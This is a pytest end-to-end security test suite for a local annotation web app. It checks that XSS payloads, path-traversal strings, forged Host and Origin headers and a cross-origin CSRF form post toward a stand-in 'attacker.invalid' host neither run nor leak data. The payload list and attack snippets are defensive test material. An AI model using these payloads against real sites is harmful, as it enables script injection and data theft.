"""Whatever stands in the files, it is text on the pages: nothing runs, nothing is asked of another
server.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import AbstractContextManager, asynccontextmanager, contextmanager
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import aiohttp
import pytest
from PIL import Image

from prill.captioner.cache import image_id
from prill.captioner.files import Caption
from prill.emulators.browser.chromium import Chromium
from prill.io.store import encode
from prill.types import EvaluatorInfo, LabelRecord, Verdict
from prill.ui.serving import serving
from prill.ui.view.captions import CaptionSite, open_site
from prill.ui.view.site import ViewSite
from tests.e2e.annotate.conftest import at, idle, press
from tests.support.closing import closed
from tests.support.labelling import labelling

if TYPE_CHECKING:
    from playwright.async_api import Page

pytestmark = pytest.mark.asyncio(loop_scope="module")

RUN = "window.owned=document.title='owned'"
AWAY = "http://attacker.invalid/x"
PAYLOADS = [
    "plain",
    f"<script>{RUN}</script>",
    f"</script></textarea></pre></title><script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src={AWAY}>",
    f"'\"><svg onload={RUN}><animate onbegin={RUN} attributeName=x>",
    (
        f"<svg><use href='{AWAY}#a'/><foreignObject><iframe "
        f"src='{AWAY}'></iframe></foreignObject></svg>"
    ),
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    (
        f"<meta http-equiv=refresh content='0;url={AWAY}'><base href='{AWAY}/'><link rel=prefetch "
        f"href={AWAY}>"
    ),
    f"<style>@import url({AWAY}); body {{ background: url({AWAY}) }}</style>",
    f"x; background: url({AWAY}); --x: url({AWAY})",
    f"' onmouseover='{RUN}' onfocus='{RUN}' autofocus x='",
    f'{{{{constructor.constructor("{RUN}")()}}}} ${{{RUN}}} <%= {RUN} %> #{{{RUN}}}',
    (
        f"<form action={AWAY}><button id=save>Save</button><input name=querySelector></form><a "
        f"id=about href=javascript:{RUN}>"
    ),
    "__proto__",
    "constructor",
    "\u202egnp.exe\u2066 \u200f\u061c \u2028\u2029 \u0000\u0007\ufeff\uffff",
    "../../../../etc/passwd",
    "%2e%2e%2fsecret?x=1#y",
    'a\' "quoted" name\\',
    "Ω" * 20_000 + f"<img src=x onerror={RUN}>",
]
# How many there are of what could load, send or hide something: the same for every text.
COUNTS = """() => Object.fromEntries([...document.querySelectorAll(
  "script, style, link, meta, base, iframe, object, embed, form, input, textarea, a, animate, use, foreignObject")]
  .map((node) => node.tagName).sort().map((name, _, all) => [name, all.filter((other) => other === name).length]))"""  # noqa: E501
ACTIVE = """() => [...document.querySelectorAll("*")].flatMap((node) => [...node.attributes]
  .filter((one) => /^on|^(href|xlink:href|src|srcset|srcdoc|action|formaction|style|ping|data)$/.test(one.name))
  .map((one) => `${one.name}=${one.value}`))"""  # noqa: E501
# Marks for writing from right to left reach to the end of what isolates them: nothing that is not
# theirs may follow there.
REACHES = """() => {
  const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT), found = [];
  while (walk.nextNode()) {
    const node = walk.currentNode;
    if (!node.data.includes("\\u202e") || node.parentElement.closest("bdi, pre, td, textarea, [dir=auto]")) continue;
    const last = node === node.parentElement.lastChild && node.data.split("\\u202e").length === 2;
    if (!last) found.push(node.parentElement.outerHTML);
  }
  return found;
}"""  # noqa: E501
ALLOWED = {
    "href=data:,",
    "href=look.css",
    "href=page.css",
    "src=look.js",
    "href=view.css",
    "src=view.js",
    "src=captions.js",
}


class Watch:
    """A window, and everything that it asked for, opened or complained about."""

    def __init__(self, page: Page, url: str) -> None:
        self.page, self.url = page, url
        self.requests: list[str] = []
        self.events: list[str] = []
        page.context.on("request", lambda request: self.requests.append(request.url))
        page.context.on("page", lambda opened: self.events.append(f"window {opened.url}"))
        page.on("pageerror", lambda error: self.events.append(f"error {error}"))
        page.on("dialog", lambda dialog: self.events.append(f"dialog {dialog.message}"))
        page.on("console", lambda message: self.events.append(f"console {message.text}"))
        page.on(
            "framenavigated",
            lambda frame: (
                self.events.append(f"went to {frame.url}")
                if frame.url.partition("#")[0] != url
                else None
            ),
        )

    async def is_untouched(self, title: str) -> None:
        """Nothing has run, and what the browser acts on is the page's own."""
        assert await self.page.evaluate("window.owned") is None
        assert await self.page.title() == title
        for active in await self.page.evaluate(ACTIVE):
            name, _, value = active.partition("=")
            own = (
                value.startswith("pictures/")
                if name == "src"
                else name == "style" and "url" not in value
            )
            assert own or active in ALLOWED, active
        assert await self.page.evaluate(REACHES) == []

    def asked_only_home(self) -> None:
        """Every request went to the server's own origin; pictures that are not there are the only
        complaints.
        """
        assert self.requests and all(
            url.startswith(self.url) or url == "data:," for url in self.requests
        ), self.requests
        assert [event for event in self.events if "404" not in event and "415" not in event] == []


@asynccontextmanager
async def watched(browser: Chromium, url: str) -> AsyncIterator[Watch]:
    context = await browser.context(1280, 800)
    try:
        page = await context.new_page()
        watch = Watch(page, url)
        await page.goto(url)
        await at(page, 1)
        yield watch
        watch.asked_only_home()
    finally:
        await closed(context)


def hostile_run(i: int, text: str) -> dict[str, Any]:
    # Other names are refused when the file is read: those that leave its folder, or hold a null
    # character.
    picture = text if ".." not in text and "\0" not in text else "absent.png"
    state = {"text": text, "caption": text, "url": text, "screenshot": picture}
    action = {"kind": "type", "text": text, "target": text, "value": text, "point": [0.5, 0.5]}
    said = {"kind": "message", "text": f"{text}!", "value": f"{text}?"}
    step = {"observation": state, "action": action, "thought": text}
    return {
        "id": f"{i} {text}",
        "task": {
            "id": text,
            "goal": text,
            "site": f"site {text}",
            "start_url": text,
            "earlier": [{"id": "e", "task": {"goal": text}, "answer": text}],
        },
        "agent": text,
        "steps": [step, {**step, "action": said}],
        "final": state,
        "answer": text,
        "error": text,
        "metadata": {text[:100]: text},
    }


@contextmanager
def label_page(folder: Path, annotator: str = "me") -> Iterator[ViewSite]:
    """A trajectory a payload, and what a person and a judge of that name say of it; a file that has
    such a name, too.
    """
    Image.new("RGB", (40, 30)).save(folder / 'a\' "quoted" name\\', "PNG")
    path = folder / "t\udcff'\"><img src=x onerror=window.owned=1>.jsonl"
    records = [hostile_run(i, text) for i, text in enumerate(PAYLOADS)]
    with path.open("w") as file:
        file.writelines(json.dumps(record) + "\n" for record in records)
        file.write('{"id": "<img src=x onerror=window.owned=1>", "task": 7}\n')
        file.write('{"id": "half", "task": {"goal": "\\ud83d"}, "steps": []}\n')
    ids = [str(record["id"]) for record in records]
    pairs = list(zip(ids, PAYLOADS, strict=True))
    earlier = [
        LabelRecord(id=id, success=True, annotator=f"{text[:300]}~", note=text)
        for id, text in pairs
    ]
    judge = EvaluatorInfo("judge", "1", "m")
    verdicts = [
        Verdict(
            id=id,
            success=False,
            reason=text,
            evaluator=replace(judge, name=text, version=text, model=text),
        )
        for id, text in pairs
    ]
    labels = folder / "l.jsonl"
    with labelling(path, labels, annotator, earlier=earlier, verdicts=verdicts) as site:
        yield site


async def test_labels_page_shows_all_runs_nothing(browser: Chromium, tmp_path: Path) -> None:
    counts: list[dict[str, int]] = []
    with label_page(tmp_path, PAYLOADS[3]) as site:
        async with serving(site) as url, watched(browser, url) as watch:
            page = watch.page
            for i, text in enumerate(PAYLOADS):
                await at(page, i + 1)
                shown = await page.evaluate("document.querySelector('#detail h2').textContent")
                assert shown == text
                await page.evaluate(
                    "document.querySelectorAll('details').forEach((one) => { one.open = true; })"
                )
                await page.locator("#text pre:not(:empty)").wait_for()
                await watch.is_untouched("prill annotate")
                await press(page, "ArrowRight", "End", "s", "e")
                await page.fill("#note", text[:5_000].replace("\0", ""))
                await press(page, "Control+Enter")
                await (at(page, i + 2) if i + 1 < len(PAYLOADS) else idle(page))
                await press(page, ",") if i + 1 < len(PAYLOADS) else None
                await at(page, i + 1)
                await page.locator(".label-line li").nth(1).wait_for()
                await page.locator(".judge .reason").first.wait_for()
                await watch.is_untouched("prill annotate")
                await page.locator("#stage .frame").wait_for()
                counts.append(await page.evaluate(COUNTS))
                await press(page, "g")
                await page.keyboard.type(str(i + 1))
                await page.locator("#found").filter(has_text=f"1 of {len(PAYLOADS)}").wait_for()
                await press(page, "Enter")
                await at(page, i + 1)
                await press(page, ".")
                await idle(page)
        assert site.session is not None and len(site.session.log.mine) == len(PAYLOADS)
    assert all(count == counts[0] for count in counts), (
        "what a text is changes what the page is made of"
    )


@contextmanager
def caption_page(folder: Path) -> Iterator[CaptionSite]:
    site = hostile_captions(folder)
    with site.log:
        yield site


def hostile_captions(folder: Path) -> CaptionSite:
    lines = []
    for i, text in enumerate(PAYLOADS):
        name = f"{i} {text[:100]}.png".replace("/", "∕").replace("\0", "")
        Image.new("RGB", (20, 10), (i, 9, 9)).save(folder / name, "PNG")
        id = image_id(str(folder / name))
        problem = {"unscored": "refusal", "reason": text} if i % 2 else {"caption": text}
        lines.append(Caption(id=id, captioner=PAYLOADS[5], image=name, **problem))  # type: ignore[arg-type]
    (folder / "c.jsonl").write_bytes(b"".join(map(encode, lines)))
    return open_site(str(folder / "c.jsonl"), str(folder / "d.jsonl"), PAYLOADS[3])[0]


async def test_captions_page_shows_all_runs_nothing(browser: Chromium, tmp_path: Path) -> None:
    site = hostile_captions(tmp_path)
    with site.log:
        async with serving(site) as url, watched(browser, url) as watch:
            page = watch.page
            for i, text in enumerate(PAYLOADS):
                await at(page, i + 1)
                await page.locator(f"#picture[src='pictures/{i}']").wait_for()
                assert (
                    await page.evaluate("document.getElementById('image').textContent")
                    == site.captions[i].image
                )
                if not i % 2:
                    shown = await page.evaluate("document.getElementById('caption').value")
                    assert shown == text
                await watch.is_untouched("prill view: captions")
                await press(page, "r")
            await page.locator("#counts").filter(has_text=f"{len(PAYLOADS)} done").wait_for()


async def test_policy_stops_what_gets_in(browser: Chromium, tmp_path: Path) -> None:
    """Were markup ever put into the pages, their policy would neither run it nor send anything
    away.
    """
    with label_page(tmp_path) as site:
        async with serving(site) as url:
            context = await browser.context(1280, 800)
            page = await context.new_page()
            outside: list[str] = []
            context.on("requestfinished", lambda request: outside.append(request.url))
            await page.goto(url)
            await at(page, 1)
            for text in PAYLOADS:
                if "refresh" in text:
                    # no policy stops a page from being sent elsewhere, and this one was never told
                    # to
                    continue
                await page.evaluate(
                    "(text) => "
                    "document.querySelector('#detail').insertAdjacentHTML('beforeend', text)",
                    text,
                )
            inline = (
                "const made = document.createElement('script'); made.textContent = code; "
                "document.body.append(made);"
            )
            await page.evaluate(f"(code) => {{ {inline} }}", RUN)
            opening = (
                "new Promise((a, b) => { const s = new WebSocket('ws://attacker.invalid'); "
                "s.onopen = a; s.onerror = b; })"
            )
            for reach in (f"fetch('{AWAY}')", opening):
                assert (
                    await page.evaluate(f"() => {reach}.then(() => 'sent', () => 'blocked')")
                    == "blocked"
                )
            assert await page.evaluate("window.owned") is None
            assert page.url.partition("#")[0] == url
            assert not [one for one in outside if not one.startswith((url, "data:"))]
            await closed(context)


@pytest.mark.parametrize(
    ("make", "file", "write"),
    [(label_page, "l.jsonl", "api/labels/0"), (caption_page, "d.jsonl", "api/cards/0")],
)
async def test_others_neither_read_nor_write(
    tmp_path: Path,
    make: Callable[[Path], AbstractContextManager[ViewSite | CaptionSite]],
    file: str,
    write: str,
) -> None:
    """Another site's page, a rebound name, a wrong token: refused on every path, with the file as
    before.
    """
    paths = [
        "",
        "look.js",
        "common.js",
        "page.css",
        "view.js",
        "view.css",
        "api/overview",
        "api/cards/0",
        "api/state",
        "api/search?q=x",
        "api/summary",
        "api/runs/0",
        "api/calls/0/0",
        "api/labels/0",
        "pictures/0",
        "pictures/0/0",
        "texts/0/0",
    ]
    body = json.dumps({"choice": "success"}).encode()
    with make(tmp_path) as site:
        before = (tmp_path / file).read_bytes()
        async with serving(site) as url, aiohttp.ClientSession() as http:
            base, token = url.rstrip("/").rsplit("/", 1)
            port = base.rpartition(":")[2]
            own = {"Origin": base, "Content-Type": "application/json"}
            wrong = ["", "x", token[:-1], token + "x", token.swapcase(), "%2e%2e", f"%00{token}"]
            for path in paths:
                for host in (
                    "attacker.invalid",
                    f"attacker.invalid:{port}",
                    f"127.0.0.1.attacker.invalid:{port}",
                    "127.0.0.1:1",
                ):
                    async with http.get(url + path, headers={"Host": host}) as answer:
                        assert answer.status == 403, (path, host)
                for other in wrong:
                    async with http.get(f"{base}/{other}/{path}") as answer:
                        assert answer.status == 403, (path, other)
            for path in (write, "api/undo"):
                for headers in (
                    {**own, "Origin": "http://attacker.invalid"},
                    {**own, "Origin": "null"},
                    {**own, "Origin": f"http://localhost:{port}"},
                    {**own, "Origin": base.replace("http:", "https:")},
                    {"Content-Type": "application/json"},
                    {**own, "Content-Type": "text/plain"},
                    {**own, "Content-Type": "application/x-www-form-urlencoded"},
                    {**own, "Host": f"attacker.invalid:{port}"},
                ):
                    async with http.post(url + path, data=body, headers=headers) as answer:
                        assert answer.status in (403, 415), headers
                    async with http.put(url + path, data=body, headers=headers) as answer:
                        assert answer.status in (403, 405, 415), headers
                async with http.post(
                    f"{base}/{token[:-1]}x/{path}", data=body, headers=own
                ) as answer:
                    assert answer.status == 403
            async with http.options(
                url + write, headers={"Origin": "http://attacker.invalid"}
            ) as answer:
                assert (
                    answer.status in (403, 415)
                    and "Access-Control-Allow-Origin" not in answer.headers
                )
    assert (tmp_path / file).read_bytes() == before


async def test_other_site_neither_frames_nor_posts(browser: Chromium, tmp_path: Path) -> None:
    """A page of another origin in the same browser that knows even the address: no frame, no form,
    no fetch, no picture.
    """
    with label_page(tmp_path) as site:
        async with serving(site) as url:
            context = await browser.context(800, 600)
            page = await context.new_page()
            frame = f"<iframe src='{url}'></iframe><img src='{url}pictures/21/0'>"
            form = f"<form method=post enctype=text/plain action='{url}api/labels/0' target=f>"
            form += """<input name='{"choice":"success","x":"' value='"}'></form><iframe name=f></iframe>"""  # noqa: E501
            await page.route(
                "http://attacker.invalid/**",
                lambda route: route.fulfill(body=frame + form, content_type="text/html"),
            )
            await page.goto("http://attacker.invalid/")
            sent = """async (url) => {
              document.forms[0].submit();
              const tries = [["text/plain", "no-cors"], ["application/json", "cors"], ["application/json", "no-cors"]];
              for (const [type, mode] of tries) {
                const headers = { "Content-Type": type }, body = '{"choice":"success"}';
                await fetch(`${url}api/labels/0`, { method: "POST", mode, body, headers }).catch(() => null);
              }
              const read = await fetch(`${url}api/state`).then((answer) => answer.text(), () => "blocked");
              return [read, document.images[0].naturalWidth];
            }"""  # noqa: E501
            assert await page.evaluate(sent, url) == ["blocked", 0]
            for one in page.frames[1:]:
                assert await one.locator("#detail").count() == 0
            await closed(context)
        assert site.session is not None and not site.session.log.mine
    assert (tmp_path / "l.jsonl").stat().st_size == 0
